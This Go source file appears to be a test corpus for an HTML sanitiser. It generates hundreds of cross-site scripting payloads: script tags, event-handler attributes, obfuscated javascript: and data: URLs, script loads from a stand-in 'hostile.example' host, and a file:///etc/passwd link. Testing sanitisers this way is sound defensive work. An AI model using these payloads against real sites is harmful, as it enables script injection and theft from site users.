package vectors

import (
	"encoding/base64"
	"fmt"
	"strings"
)

func scripts() []item {
	return plain(
		`<script>pwn()</script>`,
		`<SCRIPT>pwn()</SCRIPT>`,
		`<script src="data:text/javascript,pwn()"></script>`,
		`<script src="data:;base64,cHduKCk="></script>`,
		`<script type=module>pwn()</script>`,
		`<script type="text/ecmascript">pwn()</script>`,
		`<script language=jscript>pwn()</script>`,
		`<script/x>pwn()</script>`,
		"<script\x0c>pwn()</script>",
		`<script >pwn()</script >`,
		`<script>pwn()</script/x>`,
		`<script><!-- pwn() --></script><script>pwn()</script>`,
		"<script><!--\npwn()\n//--></script>",
		`<script>pwn()`,
		`<p>one<script>pwn()</p>`,
		`<scr<script>ipt>pwn()</scr</script>ipt>`,
		`<<script>pwn()//<</script>`,
		`<script async>pwn()</script>`,
		`<script defer src=data:,pwn()></script>`,
		`<script xmlns="http://www.w3.org/1999/xhtml">pwn()</script>`,
		`<x:script xmlns:x="http://www.w3.org/1999/xhtml">pwn()</x:script>`,
		`<script src="https://hostile.example/x.js"></script>`,
		`<script src=//hostile.example/x.js></script>`,
		`<script>eval('pwn()')</script>`,
		`<script>alert(1)</script>`,
		`<script>confirm(1)</script>`,
		`<script>setTimeout('pwn()')</script>`,
		`<script nomodule>pwn()</script><script type="module">pwn()</script>`,
		`<script type=importmap>{"imports":{"a":"data:text/javascript,pwn()"}}</script><script type=module>import "a"</script>`,
		`<script type=speculationrules>{"prefetch":[{"source":"list","urls":["/prefetched"]}]}</script>`,
		`<div><script>document.write('<img src=x onerror=pwn()>')</script></div>`,
		`<script>document.currentScript.insertAdjacentHTML('afterend','<img src=x onerror=pwn()>')</script>`,
		`<SCRıPT>pwn()</SCRıPT><ſcript>pwn()</ſcript>`,
		`<template><script>pwn()</script></template>`,
		`<template shadowrootmode=open><script>pwn()</script><img src=x onerror=pwn()></template>`,
		`<div><template shadowrootmode=open><img src=x onerror=pwn()></template></div>`,
		`<html><head><script>pwn()</script></head><body>text</body></html>`,
		`<!DOCTYPE html><title>t</title><script>pwn()</script>`,
	)
}

func loneHandlers() []item {
	return plain(
		`<img src=x onerror=pwn()>`,
		`<img src=x onerror="pwn()">`,
		`<img src=x onerror='pwn()'>`,
		"<img src=x onerror=`pwn()`>",
		`<img src=x OnErRoR=pwn()>`,
		`<img/src=x/onerror=pwn()>`,
		"<img\nsrc=x\nonerror=pwn()>",
		"<img\x0csrc=x\x0conerror=pwn()>",
		"<img\rsrc=x\ronerror\r=\rpwn()>",
		`<img src onerror=pwn()>`,
		`<img src=x onerror=pwn() onerror=1>`,
		`<img src=x:x onerror=pwn()>`,
		`<img srcset=x onerror=pwn()>`,
		`<img src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==" onload=pwn()>`,
		`<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>" onload=pwn()>`,
		`<image src=x onerror=pwn()>`,
		`<picture><source srcset=x><img src=x onerror=pwn()></picture>`,
		`<video src=x onerror=pwn()></video>`,
		`<video onerror=pwn()><source src=x></video>`,
		`<video><source src=x onerror=pwn()></video>`,
		`<video src=x onloadstart=pwn()></video>`,
		`<audio src=x onerror=pwn()></audio>`,
		`<audio src=x onloadstart=pwn() onsuspend=pwn()></audio>`,
		`<audio autoplay src="data:audio/wav;base64,UklGRiQAAABXQVZFZm10IBAAAAABAAEAQB8AAEAfAAABAAgAZGF0YQAAAAA=" onended=pwn() oncanplay=pwn() ondurationchange=pwn()></audio>`,
		`<video><track kind=metadata default src=data:, onerror=pwn() onload=pwn()></video>`,
		`<body onload=pwn()>`,
		`<body onpageshow=pwn()>`,
		`<body onfocus=pwn()><input autofocus>`,
		`<p>text<body onhashchange=pwn() onresize=pwn() onmessage=pwn()>`,
		`<html onfocusin=pwn()><input autofocus>`,
		`<frameset onload=pwn()><frame src=about:blank>`,
		`<frameset><frame src="javascript:pwn()">`,
		`<iframe onload=pwn()></iframe>`,
		`<iframe src=about:blank onload=pwn()></iframe>`,
		`<embed src=data:, onload=pwn()>`,
		`<object data=data:, onload=pwn() onerror=pwn()></object>`,
		`<object data=x onerror=pwn()></object>`,
		`<link rel=stylesheet href=x onerror=pwn()>`,
		`<link rel=stylesheet href=data:text/css, onload=pwn()>`,
		`<link rel=preload as=image href=x onerror=pwn()>`,
		`<style onload=pwn()></style>`,
		`<style onload=pwn()>p{}</style>`,
		`<style onerror=pwn()>@import"x";</style>`,
		`<input type=image src=x onerror=pwn()>`,
		`<input autofocus onfocus=pwn()>`,
		`<textarea autofocus onfocus=pwn()></textarea>`,
		`<select autofocus onfocus=pwn()></select>`,
		`<button autofocus onfocus=pwn()>b</button>`,
		`<a href=# autofocus onfocus=pwn()>a</a>`,
		`<p tabindex=0 autofocus onfocus=pwn()>p</p>`,
		`<div contenteditable autofocus onfocus=pwn() onfocusin=pwn()>d</div>`,
		`<details open ontoggle=pwn()><summary>s</summary></details>`,
		`<details open ontoggle=pwn()>d</details>`,
		`<dialog open onclose=pwn() ontoggle=pwn()>d</dialog>`,
		`<marquee onstart=pwn()>m</marquee>`,
		`<marquee loop=1 width=0 onfinish=pwn()>m</marquee>`,
		`<svg onload=pwn()>`,
		`<svg onload=pwn()></svg>`,
		`<svg/onload=pwn()//`,
		`<svg><image href=x onerror=pwn()></svg>`,
		`<svg><image xlink:href=x onerror=pwn()></svg>`,
		`<svg><animate onbegin=pwn() attributeName=x dur=1s></svg>`,
		`<svg><set onbegin=pwn() attributeName=x to=1></svg>`,
		`<svg><animate onend=pwn() attributeName=x dur=.01s></svg>`,
		`<svg><animatetransform onbegin=pwn() attributeName=transform dur=1s></svg>`,
		`<svg><a href="javascript:pwn()"><text y=20>t</text></a></svg>`,
		`<svg><a xlink:href="javascript:pwn()"><text y=20>t</text></a></svg>`,
		`<svg><a><animate attributeName=href values="javascript:pwn()"/><text y=20>t</text></a></svg>`,
		`<svg><a><set attributeName=href to="javascript:pwn()"/><text y=20>t</text></a></svg>`,
		`<svg><script>pwn()</script></svg>`,
		`<svg><script href=data:,pwn() /></svg>`,
		`<svg><script xlink:href=data:,pwn() /></svg>`,
		`<svg><style onload=pwn()></style></svg>`,
		`<svg><discard onbegin=pwn()></discard></svg>`,
		`<svg><foreignObject><img src=x onerror=pwn()></foreignObject></svg>`,
		`<svg><use href="data:image/svg+xml,<svg id='a' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='pwn()'/></svg>#a"></svg>`,
		`<svg><image href="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwn()'/>"></svg>`,
		`<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=pwn() onanimationend=pwn()>p</p>`,
		`<style>@keyframes x{}</style><b style="animation-name:x" onwebkitanimationstart=pwn()>b</b>`,
		`<p style="transition:color 1ms" ontransitionrun=pwn() ontransitionend=pwn() tabindex=1 autofocus>p</p><style>p:focus{color:red}</style>`,
		`<p style="width:20px;overflow:scroll;height:9px" onscroll=pwn()>long<br>long<br>long<b id=t tabindex=0 autofocus>end</b></p>`,
		`<div style="content-visibility:auto" oncontentvisibilityautostatechange=pwn()>d</div>`,
		`<bgsound src=x onerror=pwn()><isindex type=image src=x onerror=pwn()>`,
		`<script src=x onerror=pwn()></script>`,
		`<table background=x onerror=pwn()><td><img src=x onerror=pwn()></td></table>`,
		`<x onclick=pwn() autofocus tabindex=1 onfocus=pwn()>x</x>`,
		`<noscript><img src=x onerror=pwn()></noscript><img src=y onerror=pwn()>`,
		`<center><font><img src=x onerror=pwn()></font></center>`,
		`text<img src=x onerror=pwn()>text`,
		`<IMG SRC=x ONERROR="&#112;&#119;&#110;&#40;&#41;">`,
		`<img src=x onerror="&#x70;&#x77;&#x6e;()">`,
		`<img src=x onerror=&#112&#119&#110&#40&#41>`,
		`<img src=x onerror="\u0070wn()">`,
		`<img src=x onerror="window['p'+'wn']()">`,
		`<img src=x onerror=window.onerror=pwn;throw/x/>`,
		`<img src=x onerror=location='javascript:pwn()'>`,
		`<img src=x onerror=top.postMessage?pwn():0>`,
		`<img src=x onerror=eval(atob('cHduKCk='))>`,
	)
}

// handledElements are elements that some sanitiser lets through, or unwraps.
var handledElements = strings.Fields(`a abbr acronym address applet area article aside audio b base bdi bdo big
	blink blockquote br button canvas caption center cite code col data datalist dd del details dfn dialog dir div
	dl dt em embed fencedframe fieldset figcaption figure font footer form h1 h6 header hgroup hr i iframe img input ins
	kbd label legend li link main map mark marquee math menu meter nav object ol optgroup option output p picture
	portal pre progress q rb rp rt ruby s samp search section select slot small source span strike strong sub summary sup
	svg table tbody td textarea tfoot th thead time tr track tt u ul var video wbr x-unknown`)

func handlerElements() []item {
	var items []item
	for _, e := range handledElements {
		html := fmt.Sprintf(`<%s onclick="pwn()" onmouseover="pwn()">text</%[1]s>`, e)
		switch e {
		case "caption", "col", "tbody", "tfoot", "thead":
			html = "<table>" + html + "</table>"
		case "tr":
			html = "<table><tr onclick=pwn() onmouseover=pwn()><td>text</table>"
		case "td", "th":
			html = "<table><tr>" + html + "</tr></table>"
		case "optgroup", "option":
			html = "<select>" + html + "</select>"
		case "li":
			html = "<ul>" + html + "</ul>"
		case "rt", "rp", "rb":
			html = "<ruby>字" + html + "</ruby>"
		case "area":
			html = "<map name=m>" + html + "</map>"
		case "summary":
			html = "<details>" + html + "</details>"
		}
		items = append(items, item{name: e, html: html})
	}
	return items
}

// events are names of events that a browser knows or knew.
var events = strings.Fields(`abort afterprint animationcancel animationend animationiteration animationstart
	auxclick beforecopy beforecut beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload
	beforexrselect blur cancel canplay canplaythrough change click close command contextlost contextmenu
	contextrestored copy cuechange cut dblclick drag dragend dragenter dragleave dragover dragstart drop durationchange
	emptied ended error focus focusin focusout formdata fullscreenchange fullscreenerror gotpointercapture
	hashchange input interest invalid keydown keypress keyup languagechange load loadeddata loadedmetadata loadstart
	lostpointercapture message messageerror mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup
	mousewheel offline online pagehide pageshow paste pause play playing pointercancel pointerdown pointerenter
	pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate progress ratechange
	readystatechange rejectionhandled reset resize scroll scrollend scrollsnapchange search securitypolicyviolation
	seeked seeking select selectionchange selectstart slotchange stalled storage submit suspend timeupdate toggle
	touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun transitionstart
	unhandledrejection unload volumechange waiting webkitanimationend webkitfullscreenchange wheel
	begin end repeat start finish bounce activate`)

func handlerEvents() []item {
	hosts := []string{
		`<p on%s="pwn()">text</p>`,
		`<img src="https://pictures.example/a.jpg" alt="a" on%s="pwn()">`,
		`<video controls src="https://pictures.example/a.mp4" on%s="pwn()"></video>`,
	}
	var items []item
	for i, e := range events {
		items = append(items, item{name: e, html: fmt.Sprintf(hosts[i%len(hosts)], e)})
	}
	return items
}

// schemeForms are ways to write a URL that runs a script, as an attribute's value
// between double quotes.
var schemeForms = []string{
	"javascript:pwn()",
	"JAVASCRIPT:pwn()",
	"JaVaScRiPt:pwn()",
	" javascript:pwn()",
	"\tjavascript:pwn()",
	"\njavascript:pwn()",
	"\x01javascript:pwn()",
	"\x0e\x1f javascript:pwn()",
	"java\tscript:pwn()",
	"java\nscript:pwn()",
	"java\rscript:pwn()",
	"java\r\nscript:pwn()",
	"j\na\nv\na\ns\nc\nr\ni\np\nt\n:\npwn()",
	"javascript\t:pwn()",
	"javascript&colon;pwn()",
	"javascript&#58;pwn()",
	"javascript&#x3A;pwn()",
	"javascript&#0000058pwn()",
	"java&Tab;script:pwn()",
	"java&NewLine;script:pwn()",
	"java&#9;script:pwn()",
	"java&#x0A;script:pwn()",
	"java&#x0D;script:pwn()",
	"&#1;javascript:pwn()",
	"&#32;&#14;javascript:pwn()",
	"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;pwn()",
	"&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a;pwn()",
	"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058pwn()",
	"javascript:%70%77%6e()",
	"javascript:/**/pwn()",
	"javascript://%0apwn()",
	"javascript://https://good.example/%0Apwn()",
	"javascript:/*https://good.example/*/pwn()",
	"javascript:'https://good.example/';pwn()",
	"javascript:void pwn()",
	"javascript:void(0);pwn()",
	"javascript:undefined,pwn();//.jpg",
	"javascript:pwn()#https://good.example/a.jpg",
	"javascript:pwn()?a.jpg",
	"javascript&lpar;:pwn()",
	"javascript:pwn&lpar;&rpar;",
	"javascript:pwn&#40&#41",
	"javascript:eval(atob('cHduKCk='))",
	"javascript:alert(1)",
	"view-source:javascript:pwn()",
	"feed:javascript:pwn()",
	"feed:feed:javascript:pwn()",
	"jar:javascript:pwn()",
	"blob:javascript:pwn()",
	"filesystem:javascript:pwn()",
	"vbscript:pwn()",
	"vbscript&colon;pwn()",
	"livescript:pwn()",
	"mocha:pwn()",
	"data:text/html,<script>pwn()</script>",
	"data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==",
	"data:text/html;charset=utf-7,+ADw-script+AD4-pwn()+ADw-/script+AD4-",
	"DATA:text/html,<script>pwn()</script>",
	"data:,<script>pwn()</script>",
	"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwn()'/>",
	"data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'><script>pwn()</script></html>",
	"data:text/xml,<script xmlns='http://www.w3.org/1999/xhtml'>pwn()</script>",
	"data&colon;text/html,<script>pwn()</script>",
	" da\nta:text/html,<script>pwn()</script>",
	"about:blank#<script>pwn()</script>",
	"file:///etc/passwd",
	"chrome://settings",
	"ms-its:mhtml:file://x",
	"intent://x#Intent;scheme=https;S.browser_fallback_url=javascript:pwn();end",
	"ＪＡＶＡＳＣＲＩＰＴ:pwn()",
	"ja\u0475ascript:pwn()",
	"java\u200bscript:pwn()",
	"\u00a0javascript:pwn()",
	"\ufeffjavascript:pwn()",
	"\u2028javascript:pwn()",
	"javascript：pwn()",
	"java\u017fcript:pwn()",
	"java\x00script:pwn()",
	"\x00javascript:pwn()",
	"javascript\x00:pwn()",
	"java%0ascript:pwn()",
	"javascript%3Apwn()",
	"jav&#x00000A;ascript:pwn()",
	"java\\script:pwn()",
	"https://good.example\\@javascript:pwn()",
	"https:javascript:pwn()",
	"//javascript:pwn()",
	"/javascript:pwn()",
	"./javascript:pwn()",
	"?javascript:pwn()",
}

func schemes() []item {
	var items []item
	for _, f := range schemeForms {
		items = append(items, item{html: `<a href="` + f + `">link</a>`})
	}
	// Unquoted and oddly quoted.
	return append(items, plain(
		`<a href=javascript:pwn()>link</a>`,
		`<a href='javascript:pwn()'>link</a>`,
		`<a href=  javascript:pwn()>link</a>`,
		`<a href="javascript:pwn()" href="https://good.example/">link</a>`,
		`<a href="https://good.example/" href="javascript:pwn()">link</a>`,
		`<a HREF="javascript:pwn()" title="a">link</a>`,
		`<a xlink:href="javascript:pwn()">link</a>`,
		`<a/href=javascript:pwn()>link</a>`,
		`<a href=javascript&colon;pwn&lpar;&rpar;>link</a>`,
		`<base href="javascript:/a/"><a href="#">link</a>`,
		`<base href="javascript:pwn();//"><a href="x">link</a>`,
		`<a href="javascript:pwn()"><b>bold</b><img src="https://pictures.example/a.jpg"></a>`,
		`<a href="javascript:pwn()" target=_blank rel=opener>link</a>`,
		`<p><a href="javascript:pwn()">one<p>two</a>three`,
	)...)
}

func urlAttributes() []item {
	positions := []struct{ name, format string }{
		{"area href", `<img usemap=#m src="https://pictures.example/a.jpg"><map name=m><area shape=default href="%s"></map>`},
		{"link href", `<link rel=stylesheet href="%s">`},
		{"iframe src", `<iframe src="%s"></iframe>`},
		{"frame src", `<frameset><frame src="%s"></frameset>`},
		{"embed src", `<embed src="%s">`},
		{"object data", `<object data="%s"></object>`},
		{"object codebase", `<object codebase="%s" classid=x></object>`},
		{"param", `<object><param name=src value="%s"><param name=url value="%[1]s"><param name=movie value="%[1]s"></object>`},
		{"form action", `<form action="%s"><input type=submit></form>`},
		{"button formaction", `<form><button formaction="%s">b</button></form>`},
		{"input formaction", `<form><input type=submit formaction="%s"></form>`},
		{"input image", `<form><input type=image formaction="%s" src="https://pictures.example/a.jpg"></form>`},
		{"svg a href", `<svg><a href="%s"><text y=9>t</text></a></svg>`},
		{"svg a xlink:href", `<svg><a xlink:href="%s"><text y=9>t</text></a></svg>`},
		{"svg use", `<svg><use href="%s#x"></use></svg>`},
		{"math href", `<math href="%s"><mi>x</mi></math>`},
		{"math xlink:href", `<math><mi xlink:href="%s">x</mi></math>`},
		{"math statusline", `<math><maction actiontype="statusline#%s" xlink:href="%[1]s">x</maction></math>`},
		{"video src", `<video controls src="%s"></video>`},
		{"video poster", `<video controls poster="%s" src="https://pictures.example/a.mp4"></video>`},
		{"audio src", `<audio controls src="%s"></audio>`},
		{"source src", `<video controls><source src="%s"></video>`},
		{"track src", `<video controls src="https://pictures.example/a.mp4"><track src="%s"></video>`},
		{"img src", `<img src="%s" alt="a">`},
		{"img dynsrc", `<img dynsrc="%s" lowsrc="%[1]s" src="https://pictures.example/a.jpg">`},
		{"img longdesc", `<img longdesc="%s" src="https://pictures.example/a.jpg">`},
		{"img usemap", `<img usemap="%s" src="https://pictures.example/a.jpg">`},
		{"image src", `<image src="%s">`},
		{"blockquote cite", `<blockquote cite="%s"><p>text</p></blockquote>`},
		{"q cite", `<p><q cite="%s">text</q></p>`},
		{"del cite", `<p><del cite="%s">text</del><ins cite="%[1]s">text</ins></p>`},
		{"body background", `<body background="%s">text`},
		{"table background", `<table background="%s"><tr><td background="%[1]s">x</table>`},
		{"a ping", `<a href="https://good.example/" ping="%s">x</a>`},
		{"a attributionsrc", `<a href="https://good.example/" attributionsrc="%s">x</a>`},
		{"html manifest", `<html manifest="%s"><p>text`},
		{"head profile", `<html><head profile="%s"></head><p>text`},
		{"meta refresh", `<meta http-equiv=refresh content="0;url=%s">`},
		{"base href", `<base href="%s"><img src=a.jpg><a href=b>x</a>`},
		{"applet", `<applet code="%s" codebase="%[1]s" archive="%[1]s"></applet>`},
		{"bgsound", `<bgsound src="%s">`},
		{"layer", `<layer src="%s"></layer><ilayer src="%[1]s"></ilayer>`},
		{"portal", `<portal src="%s"></portal>`},
		{"fencedframe", `<fencedframe src="%s"></fencedframe>`},
		{"xml data island", `<xml id=i src="%s"></xml><span datasrc=#i datafld=x dataformatas=html></span>`},
		{"q in figure", `<figure><img src="%s"><figcaption><a href="%[1]s">x</a></figcaption></figure>`},
		{"link in heading", `<h2><a href="%s">x</a></h2>`},
		{"link around picture", `<a href="%s"><img src="https://pictures.example/a.jpg"></a>`},
		{"link in table", `<table><tr><td><a href="%s">x</a></td></tr></table>`},
		{"itemid", `<div itemscope itemid="%s" itemtype="%[1]s"><link itemprop=url href="%[1]s"></div>`},
	}
	payloads := []struct{ name, value string }{
		{"javascript", "javascript:pwn()"},
		{"entities and tabs", "&#32;java&Tab;script&colon;pwn()"},
		{"data", "data:text/html,<script>pwn()</script>"},
	}
	var items []item
	for _, p := range positions {
		for _, v := range payloads {
			items = append(items, item{name: p.name + " " + v.name, html: fmt.Sprintf(p.format, v.value)})
		}
	}
	return items
}

func b64(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) }
